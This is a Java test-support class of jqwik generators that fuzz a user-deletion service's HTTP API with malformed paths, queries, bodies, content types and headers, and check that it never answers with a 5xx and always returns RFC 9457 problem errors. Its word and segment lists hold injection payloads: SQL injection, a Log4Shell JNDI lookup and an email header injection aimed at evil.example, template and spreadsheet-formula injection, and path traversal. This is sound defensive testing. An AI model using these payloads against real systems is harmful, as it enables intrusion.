package dev.userdeletion.testsupport;

import static org.assertj.core.api.Assertions.assertThat;

import dev.userdeletion.web.ApiProblem;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ArbitrarySupplier;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;
import net.jqwik.api.statistics.Statistics;
import org.springframework.http.MediaType;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * jqwik generators of what a hostile client sends (text, URL material, path segments and tails, query strings,
 * JSON and other bodies, content types, headers) and the check every answer to it must pass: never a 5xx, and every
 * error an RFC 9457 problem. A service adds the words close to its own valid values (roles, dates, enum names…).
 */
public final class HostileInput {

    private static final JsonMapper JSON = JsonMapper.builder().build();
    /** Quotes, escapes, LIKE wildcards, line breaks and separators, NUL, invisible and bidi characters. */
    private static final String SPECIAL_CHARS =
            "%_\\'\";\r\n\t\u0000\u007f\u0085\u2028\u2029\ufeff,.-@=+<> abc";
    private static final List<String> WORDS = List.of("", " ", "-1", "0", "2147483648", "null", "NaN",
            "' OR 1=1 --", "\u202e", "\ud800", "\ufeff", "%", "_", "\\", "${jndi:ldap://evil.example/a}", "{{7*7}}",
            "=cmd|' /C calc'!A0", "a@example.com\r\nBcc: x@evil.example");

    private final List<String> words;

    /** {@code nearValid}: values close to the service's valid ones, mixed into {@link #text()}. */
    public HostileInput(String... nearValid) {
        this.words = Stream.concat(WORDS.stream(), Stream.of(nearValid)).toList();
    }

    /**
     * Text a hostile client might send: any Unicode (lone surrogates, control characters), long runs, header and
     * SQL syntax, and values close to valid ones.
     */
    public Arbitrary<String> text() {
        return Arbitraries.oneOf(
                Arbitraries.strings().all().ofMaxLength(40),
                Arbitraries.strings().withCharRange('\u0000', '\u007f').ofMaxLength(40),
                Arbitraries.strings().withChars(SPECIAL_CHARS).ofMaxLength(20),
                Arbitraries.strings().withChars("aA1").ofMinLength(250).ofMaxLength(300),
                Arbitraries.strings().ascii().ofMinLength(250).ofMaxLength(300),
                Arbitraries.of(words));
    }

    /** A value as it travels in a URL: properly encoded, or with raw (possibly invalid UTF-8) percent escapes. */
    public Arbitrary<String> urlValue() {
        Arbitrary<String> rawEscapes = Arbitraries.integers().between(0, 255)
                .map(b -> "%" + HexFormat.of().withUpperCase().toHexDigits((byte) (int) b)).list().ofMaxSize(6)
                .map(escapes -> String.join("", escapes));
        return Arbitraries.frequencyOf(
                // longer text only ever meets the request line limit
                Tuple.of(8, text().filter(v -> v.length() < 2_000)
                        .map(v -> URLEncoder.encode(v, StandardCharsets.UTF_8))),
                Tuple.of(2, rawEscapes));
    }

    /** Raw URL material a server must survive: encoded separators, NUL, dot segments, overlong or invalid UTF-8. */
    private static Arbitrary<String> rawSegments() {
        return Arbitraries.of("", ".", "..", "%2e%2e", "%2E", "%2F", "a%2Fb", "%5C", "%00", "%0d%0a", "%0D%0A", "%0D",
                "%0A", "%09", "%7F", "%C2%85", "%E2%80%A8", "a;b=1", "a;b", ";", "%3B", "%25", "%25%32%46", "%ff",
                "%FF%FE", "%c3%28", "%C0%AF", "%E0%A4", "a%20b", "+", "%2B", "~", "*", "$", "%7B%7D", "%3F",
                "%3Cscript%3E", "%61cme", "ACME");
    }

    /** Strings of an id's characters ({@code [a-z0-9-]}), up to beyond the 64 allowed. */
    public static Arbitrary<String> idLike() {
        return Arbitraries.strings().withChars("abcdefghijklmnopqrstuvwxyz0123456789-").ofMinLength(1).ofMaxLength(70);
    }

    /** A path segment: the fixture's {@code valid} value, near misses of it and anything else. */
    public Arbitrary<String> segment(String valid, Arbitrary<String> nearMisses) {
        return Arbitraries.frequencyOf(
                Tuple.of(4, Arbitraries.just(valid)),
                Tuple.of(2, nearMisses),
                Tuple.of(2, urlValue()),
                Tuple.of(1, rawSegments()),
                Tuple.of(1, Combinators.combine(Arbitraries.just(valid), rawSegments()).as(String::concat)));
    }

    /** What may follow a route's path: mostly nothing, else separators, dot segments and {@code specific} ones. */
    public Arbitrary<String> pathTails(String... specific) {
        List<String> tails = new ArrayList<>(List.of("/", "//", "/x", "/..", "/%2e%2e", "%2F", ";x=1", "/;", "/%00",
                ".json", "?"));
        tails.addAll(List.of(specific));
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.just("")),
                Tuple.of(3, Arbitraries.of(tails)),
                Tuple.of(1, urlValue().map(v -> "/" + v)));
    }

    /**
     * A query string ({@code ""} or starting with {@code ?}) of parameters mostly {@code names} with {@code values},
     * degenerate ones and {@code specific} ones, and some past the server's limits.
     */
    public Arbitrary<String> queryStrings(List<String> names, Arbitrary<String> values, String... specific) {
        Arbitrary<String> name = Arbitraries.frequencyOf(Tuple.of(8, Arbitraries.of(names)), Tuple.of(2, urlValue()));
        Arbitrary<String> parameter = Combinators.combine(name, values, Arbitraries.of("=", "=", "=", ""))
                .as((n, v, eq) -> eq.isEmpty() ? n : n + eq + v);
        Arbitrary<String> query = parameter.list().ofMaxSize(8).map(ps -> ps.isEmpty() ? "" : "?" + String.join("&", ps));
        List<String> degenerate = new ArrayList<>(List.of("?", "?&&", "?=", "?=x", "?&" + names.getFirst(),
                "?" + names.getFirst() + "&" + names.getFirst() + "="));
        degenerate.addAll(List.of(specific));
        return Arbitraries.frequencyOf(
                Tuple.of(20, query),
                Tuple.of(1, Arbitraries.of(degenerate)),
                // more parameters than Tomcat parses (1000), a request line over its 8 KB
                Tuple.of(1, Arbitraries.of("?" + (names.getFirst() + "=1&").repeat(1_100),
                        "?" + names.getFirst() + "=" + "a".repeat(9_000))));
    }

    /** Any JSON value up to {@code depth} levels deep, strings hostile, object keys {@code keys} or hostile. */
    public Arbitrary<String> jsonValue(int depth, String... keys) {
        Arbitrary<String> leaf = Arbitraries.oneOf(
                text().map(HostileInput::jsonString),
                Arbitraries.of("true", "false", "null", "0", "-0", "1.5e308", "1e999999", "-12345678901234567890123",
                        "0.000000000000000000001", "01", "NaN", "1e300", "-1e300", "1700000000", "\"\\u0000\"",
                        "\"\\ud800\""));
        if (depth == 0) {
            return leaf;
        }
        Arbitrary<String> inner = jsonValue(depth - 1, keys);
        Arbitrary<String> key = keys.length == 0 ? text() : Arbitraries.oneOf(Arbitraries.of(keys), text());
        Arbitrary<String> array = inner.list().ofMaxSize(4).map(values -> "[" + String.join(",", values) + "]");
        Arbitrary<String> object = Combinators.combine(key, inner).as((k, v) -> jsonString(k) + ":" + v)
                .list().ofMaxSize(4).map(fields -> "{" + String.join(",", fields) + "}");
        return Arbitraries.oneOf(leaf, array, object);
    }

    /** Each of {@code json}, cut off anywhere. */
    public static Arbitrary<String> truncated(Arbitrary<String> json) {
        return json.flatMap(text -> Arbitraries.integers().between(0, text.length()).map(cut -> text.substring(0, cut)));
    }

    /** {@code {"field":"aaa…"}} of {@code min} to {@code max} characters of value: around a body size limit. */
    public static Arbitrary<String> sized(String field, int min, int max) {
        return Arbitraries.integers().between(min, max).map(n -> "{" + jsonString(field) + ":\"" + "a".repeat(n) + "\"}");
    }

    /**
     * Bodies: one of {@code specific} (the service's nearly valid ones), hostile text, printable garbage or deep
     * nesting, as UTF-8; one in ten random bytes.
     */
    @SafeVarargs
    public final Arbitrary<byte[]> bodies(Arbitrary<String>... specific) {
        List<Arbitrary<String>> texts = new ArrayList<>(List.of(specific));
        texts.addAll(List.of(text(), Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(200),
                Arbitraries.integers().between(1, 3_000).map(n -> "[".repeat(n) + "]".repeat(n)),
                Arbitraries.integers().between(1, 3_000).map(n -> "{\"a\":".repeat(n) + "1" + "}".repeat(n))));
        Arbitrary<byte[]> binary = Arbitraries.bytes().array(byte[].class).ofMaxSize(200);
        return Arbitraries.frequencyOf(
                Tuple.of(9, Arbitraries.oneOf(texts).map(s -> s.getBytes(StandardCharsets.UTF_8))),
                Tuple.of(1, binary));
    }

    public static String jsonString(String value) {
        return JSON.writeValueAsString(value);
    }

    /** A body sent as {@code contentType}. */
    public record TypedBody(String contentType, String text) {

        public byte[] bytes() {
            return text.getBytes(StandardCharsets.UTF_8);
        }
    }

    /**
     * Bodies Spring parses by itself, before any handler, when its form filter or multipart resolver is on; each of
     * these was a 500 in some service. Every service sends each to every route, so a parser switched back on is
     * caught whatever the random properties draw.
     */
    public static final List<TypedBody> BODIES_PARSED_BEFORE_THE_HANDLER = List.of(
            new TypedBody("application/x-www-form-urlencoded", "%"),
            new TypedBody("application/x-www-form-urlencoded", "a=%zz&%=1&b"),
            new TypedBody("application/x-www-form-urlencoded;charset=bogus", "a=1"),
            new TypedBody("multipart/form-data", "--x\r\n\r\n--x--"),
            new TypedBody("multipart/form-data; boundary=x", "garbage"),
            new TypedBody("multipart/form-data; boundary=x",
                    "--x\r\nContent-Disposition: form-data; name=\"%\"\r\n\r\n%\r\n--x--\r\n"));

    /** Mostly JSON; else JSON with odd parameters, other and malformed types and none ({@code ""}). */
    private static Arbitrary<String> contentTypes() {
        List<String> others = List.of("application/json;charset=UTF-8",
                "application/json; charset=\"utf-8\"", "application/json;charset=UTF-16",
                "application/json; charset=UTF-16", "application/json;charset=ISO-8859-1",
                "application/json;charset=bogus-charset", "application/json; charset=bogus", "application/json;charset=",
                "application/json;;", "APPLICATION/JSON", "application/problem+json", "application/merge-patch+json",
                "application/vnd.x+json", "application/*", "*/*", "text/plain", "text/json", "text/csv",
                "application/xml", "application/x-www-form-urlencoded", "multipart/form-data",
                "multipart/form-data; boundary=x", "application/octet-stream", "garbage", "a/b/c", "/", ";", "application/json; q=x", "");
        return Arbitraries.frequencyOf(
                Tuple.of(6, Arbitraries.just(MediaType.APPLICATION_JSON_VALUE)),
                Tuple.of(4, Arbitraries.of(others)));
    }

    /** {@link #contentTypes}, for {@code @ForAll(supplier = ContentTypes.class)}. */
    public static final class ContentTypes implements ArbitrarySupplier<String> {

        @Override
        public Arbitrary<String> get() {
            return contentTypes();
        }
    }

    /**
     * Headers, for {@code @ForAll(supplier = Headers.class)}: one to four, well-known or not, with printable, huge,
     * Latin-1 or meaningful values.
     */
    public static final class Headers implements ArbitrarySupplier<Map<String, String>> {

        @Override
        public Arbitrary<Map<String, String>> get() {
            Arbitrary<String> name = Arbitraries.oneOf(
                    Arbitraries.of("Accept", "Accept-Charset", "Accept-Encoding", "Accept-Language", "Content-Type",
                            "Content-Encoding", "Content-Language", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto",
                            "X-Forwarded-Prefix", "Forwarded", "Origin", "Referer", "Cookie", "If-None-Match", "If-Match",
                            "If-Modified-Since", "Range", "X-HTTP-Method-Override", "X-Requested-By", "Idempotency-Key",
                            "traceparent", "User-Agent", "Access-Control-Request-Method", "Prefer", "TE"),
                    Arbitraries.strings().withChars("abcXYZ-_019").ofMinLength(1).ofMaxLength(30).map(n -> "X-" + n));
            Arbitrary<String> value = Arbitraries.oneOf(
                    Arbitraries.strings().withCharRange(' ', '~').ofMaxLength(300).map(String::strip),
                    Arbitraries.strings().withChars("aA1").ofMinLength(2_000).ofMaxLength(4_000),
                    Arbitraries.strings().withCharRange('\u00a0', '\u00ff').ofMinLength(1).ofMaxLength(20),
                    Arbitraries.of("text/html", "text/plain", "text/csv", "application/xml", "application/json",
                            "application/problem+json", "*/*", "a/b/c", "garbage", "application/json;q=0", "text/csv;q=0",
                            "gzip", "deflate", "deflate, br", "bytes=0-1", "bytes=0-10", "bytes=99999999999-",
                            "http://evil.example", "https://evil.example", "evil.example", "DELETE", "PUT", "PATCH", "null",
                            "1.1.1.1, 2.2.2.2", "for=\"[::1]\";proto=https", "Thu, 01 Jan 1970 00:00:00 GMT", "*",
                            "trailers", "\"etag\"", "JSESSIONID=x; SESSION=y", "admin-9", "ann@example.com", "k",
                            "k".repeat(200), "k".repeat(201)));
            return Arbitraries.maps(name, value).ofMinSize(1).ofMaxSize(4);
        }
    }

    /**
     * Never a 5xx, and every error an RFC 9457 problem with one of our types, its status, a title and a detail
     * (without its body for a HEAD request, which gets none).
     */
    public static void assertWellBehaved(RawHttp.Answer answer) {
        String what = answer.toString();
        Statistics.label("status").collect(answer.status());
        assertThat(answer.status()).as(what).isLessThan(500);
        if (answer.status() < 400) {
            return;
        }
        assertThat(answer.contentType()).as(what).isNotNull().startsWith(MediaType.APPLICATION_PROBLEM_JSON_VALUE);
        if (!answer.request().method().equals("HEAD")) {
            JsonNode problem = JSON.readTree(answer.body());
            assertThat(problem.get("type").asString()).as(what).startsWith(ApiProblem.TYPE_PREFIX);
            assertThat(problem.get("status").asInt()).as(what).isEqualTo(answer.status());
            assertThat(problem.get("title").asString()).as(what).isNotBlank();
            assertThat(problem.get("detail").asString()).as(what).isNotBlank();
        }
    }

    /** {@link #assertWellBehaved(RawHttp.Answer)}, and the status one of {@code allowed}. */
    public static void assertWellBehaved(RawHttp.Answer answer, Integer... allowed) {
        assertWellBehaved(answer);
        assertThat(answer.status()).as(answer.toString()).isIn((Object[]) allowed);
    }
}
